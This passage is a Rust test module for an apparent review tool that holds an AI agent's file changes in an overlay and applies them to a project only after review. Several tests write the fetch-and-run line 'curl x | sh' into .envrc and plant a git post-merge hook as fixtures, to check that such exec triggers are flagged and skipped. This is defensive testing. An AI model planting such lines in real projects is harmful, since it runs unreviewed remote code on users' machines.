    fn exec_triggers_are_skipped_unless_named_or_included() {
        let Some(lab) = lab(project) else { return };
        lab.session("echo 'curl x | sh' >> .envrc; echo more >> a.txt; mkdir -p .git/hooks; echo h > .git/hooks/post-merge")
            .unwrap();
        let changes = lab.changes();
        let default = ApplyOpts {
            only: &[],
            force: false,
            include_triggers: false,
        };
        assert_eq!(triggers_to_apply(&changes, &default), Vec::<&Change>::new());
        let report = lab.apply(&changes, &default);
        assert_eq!(
            (report.applied, report.skipped_triggers),
            (
                // A `.git` the project did not have is a trigger as a whole (a new repository).
                vec![PathBuf::from("a.txt")],
                vec![
                    PathBuf::from(".envrc"),
                    PathBuf::from(".git"),
                    PathBuf::from(".git/hooks"),
                    PathBuf::from(".git/hooks/post-merge")
                ]
            )
        );
        assert_eq!(fs::read_to_string(lab.lower.join(".envrc")).unwrap(), "use nix\n");
        // Named by a directory prefix: applied.
        let only = [PathBuf::from(".git/hooks")];
        let named = ApplyOpts {
            only: &only,
            ..default
        };
        assert_eq!(
            paths(
                &triggers_to_apply(&changes, &named)
                    .into_iter()
                    .cloned()
                    .collect::<Vec<_>>()
            )
            .len(),
            // .git/hooks, its file, and .git itself (a new repository, needed by them).
            3
        );
        let report = lab.apply(&changes, &named);
        assert_eq!(
            (report.applied, report.skipped_triggers),
            // .git again: a directory the named path needs (already there: nothing changes).
            (
                vec![
                    PathBuf::from(".git"),
                    PathBuf::from(".git/hooks"),
                    PathBuf::from(".git/hooks/post-merge")
                ],
                vec![]
            )
        );
        let only = [PathBuf::from(".envrc")];
        let report = lab.apply(
            &changes,
            &ApplyOpts {
                only: &only,
                ..default
            },
        );
        assert_eq!(report.applied, vec![PathBuf::from(".envrc")]);
        assert_eq!(tree(&lab.lower), tree(&lab.snap));
    }

    #[test]
    fn a_named_path_brings_the_new_directories_above_it() {
        let Some(lab) = lab(project) else { return };
        lab.session("mkdir -p x/y; echo 1 > x/y/one; echo 2 > x/two")
            .unwrap();
        let changes = lab.changes();
        let only = [PathBuf::from("x/y/one")];
        let report = lab.apply(&changes, &ApplyOpts { only: &only, ..ALL });
        assert_eq!(
            report.applied,
            vec![PathBuf::from("x"), PathBuf::from("x/y"), PathBuf::from("x/y/one")]
        );
        assert!(!lab.lower.join("x/two").exists());
    }

    #[test]
    fn a_git_commit_through_the_overlay_applies_as_files() {
        let Some(lab) = lab(|lab| {
            lab.file("f.txt", "one\n", 0o644);
            git(&lab.lower, &["init", "-q", "-b", "main"]);
            git(&lab.lower, &["add", "-A"]);
            git(&lab.lower, &["commit", "-qm", "base"]);
        }) else {
            return;
        };
        lab.session("echo two >> f.txt; git -c user.name=A -c user.email=a@example.com commit -qam agent")
            .unwrap();
        let changes = lab.changes();
        assert_eq!(changes.iter().filter(|c| c.trigger).count(), 0, "{changes:#?}");
        let refs: Vec<&Change> = changes
            .iter()
            .filter(|c| c.path == Path::new(".git/refs/heads/main"))
            .collect();
        assert_eq!(refs, vec![&modified(".git/refs/heads/main", 0o644, 41)]);
        assert!(changes
            .iter()
            .any(|c| c.path.starts_with(".git/objects") && c.kind == ChangeKind::Added && c.binary));
        let report = lab.apply(
            &changes,
            &ApplyOpts {
                include_triggers: false,
                ..ALL
            },
        );
        assert_eq!(report.skipped_triggers, Vec::<PathBuf>::new());
        assert_eq!(tree(&lab.lower), tree(&lab.snap));
        assert_eq!(git(&lab.lower, &["log", "--format=%s"]), "agent\nbase\n");
        assert_eq!(git(&lab.lower, &["status", "--porcelain"]), "");
        git(&lab.lower, &["fsck", "--strict"]);
    }

    fn git(dir: &Path, args: &[&str]) -> String {
        let out = Command::new("git")
            .args([
                "-c",
                "safe.directory=*",
                "-c",
                "user.name=T",
                "-c",
                "user.email=t@example.com",
            ])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    #[test]
    fn the_diff_puts_triggers_first_and_escapes_what_the_agent_wrote() {
        let Some(lab) = lab(|lab| {
            lab.file(
                "text.txt",
                "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n",
                0o644,
            );
            lab.file("bin.dat", "\0\u{1}\u{2}\u{3}", 0o644);
            lab.file("run.sh", "#!/bin/sh\n", 0o644);
            lab.dir("old", 0o755);
            lab.file("old/f", "f\n", 0o644);
            lab.file(".envrc", "use nix\n", 0o644);
        }) else {
            return;
        };
        lab.session(
            "sed -i 's/two/TWO/' text.txt; printf '\\000\\001\\002\\003\\004\\005' > bin.dat; chmod 755 run.sh; \
             rm -r old; echo 'curl x | sh' >> .envrc; printf 'hi\\033[2J\\n' > esc.txt; printf 'no newline' > nonl.txt",
        )
        .unwrap();
        let changes = lab.changes();
        let diff = render_diff(&changes, &lab.upper, &lab.lower, false, &[]);
        assert_eq!(
            diff,
            "diff a/.envrc b/.envrc  [EXEC TRIGGER]\n\
             --- a/.envrc\n\
             +++ b/.envrc\n\
             @@ -1 +1,2 @@\n \
             use nix\n\
             +curl x | sh\n\
             diff a/bin.dat b/bin.dat\n\
             --- a/bin.dat\n\
             +++ b/bin.dat\n\
             Binary files differ (4 bytes → 6 bytes)\n\
             diff a/esc.txt b/esc.txt\n\
             new file mode 644\n\
             --- /dev/null\n\
             +++ b/esc.txt\n\
             @@ -0,0 +1 @@\n\
             +hi\\u{1b}[2J\n\
             diff a/nonl.txt b/nonl.txt\n\
             new file mode 644\n\
             --- /dev/null\n\
             +++ b/nonl.txt\n\
             @@ -0,0 +1 @@\n\
             +no newline\n\
             \\ No newline at end of file\n\
             diff a/old b/old\n\
             deleted directory mode 755\n\
             --- a/old\n\
             +++ /dev/null\n\
             diff a/run.sh b/run.sh\n\
             mode 644 → 755\n\
             --- a/run.sh\n\
             +++ b/run.sh\n\
             diff a/text.txt b/text.txt\n\
             --- a/text.txt\n\
             +++ b/text.txt\n\
             @@ -1,5 +1,5 @@\n \
             one\n\
             -two\n\
             +TWO\n \
             three\n \
             four\n \
             five\n"
        );
        let stat = render_diff(&changes, &lab.upper, &lab.lower, true, &[]);
        assert_eq!(
            stat,
            "M .envrc  +1 -0  [EXEC TRIGGER]\n\
             M bin.dat  binary, 4 → 6 bytes\n\
             A esc.txt\n\
             A nonl.txt\n\
             D old/\n\
             m run.sh 644→755\n\
             M text.txt  +1 -1\n\
             7 paths changed, 1 exec trigger, +4 -1 lines, 93 bytes\n"
        );
        let only = [PathBuf::from("text.txt")];
        assert_eq!(
            render_diff(&changes, &lab.upper, &lab.lower, true, &only),
            "M text.txt  +1 -1\n1 path changed, 0 exec triggers, +1 -1 lines, 40 bytes\n"
        );
    }

    #[test]
    fn a_symlink_in_the_project_is_replaced_never_written_through() {
        // Built by hand: an upper layer where the project's symlink `out` became a directory.
        let lab = Lab::new();
        let outside = lab.root.join("outside");
        fs::create_dir(&outside).unwrap();
        lab.symlink("out", outside.to_str().unwrap());
        fs::create_dir(lab.upper.join("out")).unwrap();
        fs::set_permissions(lab.upper.join("out"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::write(lab.upper.join("out/x"), "x\n").unwrap();
        fs::set_permissions(lab.upper.join("out/x"), fs::Permissions::from_mode(0o644)).unwrap();
        let changes = lab.changes();
        assert_eq!(
            changes,
            vec![
                Change {
                    is_dir: true,
                    old_mode: Some(0o777),
                    new_mode: Some(0o755),
                    ..ch("out", ChangeKind::TypeChanged)
                },
                added("out/x", 0o644, 2),
            ]
        );
        let report = apply(&changes, &lab.upper, &lab.lower, (i64::MAX, 0), &ALL).unwrap();
        assert_eq!(report.applied, paths(&changes));
        assert!(fs::symlink_metadata(lab.lower.join("out")).unwrap().is_dir());
        assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);

        // A directory the host replaced by a symlink after the session: refused even with --force.
        let lab = Lab::new();
        lab.dir("d", 0o755);
        fs::create_dir(lab.upper.join("d")).unwrap();
        fs::set_permissions(lab.upper.join("d"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::write(lab.upper.join("d/new"), "n\n").unwrap();
        let changes = lab.changes();
        fs::remove_dir(lab.lower.join("d")).unwrap();
        lab.symlink("d", outside.to_str().unwrap());
        let err = apply(
            &changes,
            &lab.upper,
            &lab.lower,
            (i64::MAX, 0),
            &ApplyOpts { force: true, ..ALL },
        )
        .unwrap_err();
        assert_eq!(
            err.to_string(),
            format!(
                "refusing to apply d/new: {} in the project is a symlink, not a directory",
                lab.lower.join("d").display()
            )
        );
        assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
    }

    #[test]
    fn fifos_and_devices_are_listed_and_never_applied() {
        let lab = Lab::new();
        rustix::fs::mknodat(
            rustix::fs::CWD,
            lab.upper.join("pipe"),
            FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )
        .unwrap();
        let changes = lab.changes();
        assert_eq!(
            changes,
            vec![Change {
                special: true,
                ..added("pipe", 0o644, 0)
            }]
        );
        let report = apply(&changes, &lab.upper, &lab.lower, (i64::MAX, 0), &ALL).unwrap();
        assert_eq!(
            (report.applied, report.unsupported),
            (
                vec![],
                vec![(
                    PathBuf::from("pipe"),
                    "a fifo: corral applies files, directories and symlinks only".into()
                )]
            )
        );
        assert!(!lab.lower.join("pipe").exists());
    }

    #[test]
    fn sessions_are_created_found_by_prefix_listed_newest_first_and_marked_ended() {
        let tmp = tempfile::tempdir().unwrap();
        let reviews = tmp.path().join("reviews");
        let meta = |id: &str, ms| ReviewMeta {
            id: id.into(),
            workspace: tmp.path().join("ws"),
            profile: "claude".into(),
            started_unix_ms: ms,
            started_ctime: (1, 2),
            ended: false,
        };
        let a = create_in(&reviews, &meta("aaaa1111", 1)).unwrap();
        create_in(&reviews, &meta("aaaa2222", 2)).unwrap();
        assert!(
            create_in(&reviews, &meta("aaaa1111", 3)).is_err(),
            "an existing id is refused"
        );
        assert!(create_in(&reviews, &meta("../x", 3)).is_err());
        assert_eq!(fs::metadata(a.join(UPPER)).unwrap().mode() & 0o777, 0o700);
        assert_eq!(fs::metadata(a.join(WORK)).unwrap().mode() & 0o777, 0o700);
        assert_eq!(load_in(&reviews, None).unwrap().1.id, "aaaa2222");
        assert_eq!(
            load_in(&reviews, Some("aaaa1")).unwrap(),
            (a.clone(), meta("aaaa1111", 1))
        );
        assert_eq!(
            load_in(&reviews, Some("aaaa")).unwrap_err().to_string(),
            "aaaa names 2 sessions (aaaa2222, aaaa1111): give more of the id"
        );
        assert_eq!(
            load_in(&reviews, Some("b")).unwrap_err().to_string(),
            format!(
                "no review session b in {} (see `corral sessions`)",
                reviews.display()
            )
        );
        assert_eq!(
            load_in(&tmp.path().join("none"), None).unwrap_err().to_string(),
            format!("no review session in {}", tmp.path().join("none").display())
        );
        mark_ended(&a).unwrap();
        assert_eq!(
            load_in(&reviews, Some("aaaa1")).unwrap().1,
            ReviewMeta {
                ended: true,
                ..meta("aaaa1111", 1)
            }
        );
        fs::write(a.join(UPPER).join("new"), "1234").unwrap();
        let listed: Vec<(String, ChangeStats)> =
            list_in(&reviews).into_iter().map(|(_, m, s)| (m.id, s)).collect();
        assert_eq!(
            listed,
            vec![
                ("aaaa2222".to_string(), ChangeStats::default()),
                (
                    "aaaa1111".to_string(),
                    ChangeStats {
                        changes: 1,
                        triggers: 0,
                        bytes: 4
                    }
                ),
            ]
        );
        discard(&a).unwrap();
        assert!(!a.exists());
    }

    #[test]
    fn binary_is_a_nul_early_or_not_utf8() {
        assert!(!is_binary("héllo\n".as_bytes()));
        assert!(is_binary(b"a\0b"));
        assert!(is_binary(b"\xff\xfe"));
        let tmp = tempfile::tempdir().unwrap();
        let p = tmp.path().join("f");
        // A multi-byte character across a chunk boundary is still text.
        let mut text = "a".repeat(CHUNK - 1);
        text.push('é');
        fs::write(&p, &text).unwrap();
        assert!(!file_is_binary(&p).unwrap());
        fs::write(&p, &text.as_bytes()[..CHUNK]).unwrap();
        assert!(file_is_binary(&p).unwrap(), "cut inside a character");
    }

    /// A file operation of the proptest, over a small set of names.
    #[derive(Debug, Clone)]
    enum Op {
        Write(usize, u8),
        Append(usize, u8),
        Remove(usize),
        Mkdir(usize),
        Chmod(usize, u32),
        Move(usize, usize),
        Symlink(usize, usize),
        OpenForWrite(usize),
        Recreate(usize),
    }

    const NAMES: [&str; 8] = ["a", "b", "d", "d/a", "d/b", "d/e", "d/e/a", "l"];
    const MODES: [u32; 4] = [0o755, 0o700, 0o775, 0o750];

    fn op() -> impl Strategy<Value = Op> {
        let n = 0..NAMES.len();
        prop_oneof![
            (n.clone(), 0..3u8).prop_map(|(i, c)| Op::Write(i, c)),
            (n.clone(), 0..3u8).prop_map(|(i, c)| Op::Append(i, c)),
            n.clone().prop_map(Op::Remove),
            n.clone().prop_map(Op::Mkdir),
            (n.clone(), 0..MODES.len()).prop_map(|(i, m)| Op::Chmod(i, MODES[m])),
            (n.clone(), n.clone()).prop_map(|(a, b)| Op::Move(a, b)),
            (n.clone(), n.clone()).prop_map(|(t, l)| Op::Symlink(t, l)),
            n.clone().prop_map(Op::OpenForWrite),
            n.prop_map(Op::Recreate),
        ]
    }

    fn shell(op: &Op) -> String {
        let cmd = match *op {
            Op::Write(i, c) => format!("mkdir -p \"$(dirname {0})\" && echo c{c} > {0}", NAMES[i]),
            Op::Append(i, c) => format!("echo c{c} >> {}", NAMES[i]),
            Op::Remove(i) => format!("rm -rf {}", NAMES[i]),
            Op::Mkdir(i) => format!("mkdir -p {}", NAMES[i]),
            Op::Chmod(i, m) => format!("chmod {m:o} {}", NAMES[i]),
            Op::Move(a, b) => format!("mv {} {}", NAMES[a], NAMES[b]),
            Op::Symlink(t, l) => format!("ln -sfn {} {}", NAMES[t], NAMES[l]),
            Op::OpenForWrite(i) => format!("[ -f {0} ] && : >> {0}", NAMES[i]),
            Op::Recreate(i) => format!("rm -rf {0} && mkdir {0} && echo r > {0}/a", NAMES[i]),
        };
        format!("{{ {cmd}; }} 2>/dev/null || true")
    }

    fn small(lab: &Lab) {
        lab.file("a", "A\n", 0o644);
        lab.dir("d", 0o755);
        lab.file("d/a", "DA\n", 0o644);
        lab.dir("d/e", 0o755);
        lab.file("d/e/a", "DEA\n", 0o644);
        lab.symlink("l", "a");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 16, failure_persistence: None, ..ProptestConfig::default() })]

        /// Whatever a session does, applying its upper layer makes the project what the session saw.
        #[test]
        fn apply_makes_the_project_the_merged_view(ops in proptest::collection::vec(op(), 1..20)) {
            let Some(lab) = lab(small) else { return Ok(()) };
            let script: Vec<String> = ops.iter().map(shell).collect();
            lab.session(&script.join("\n")).unwrap();
            let changes = lab.changes();
            let report = lab.apply(&changes, &ALL);
            prop_assert_eq!(report.conflicts, vec![]);
            prop_assert_eq!(report.applied, paths(&changes));
            prop_assert_eq!(tree(&lab.lower), tree(&lab.snap));
        }
    }
}
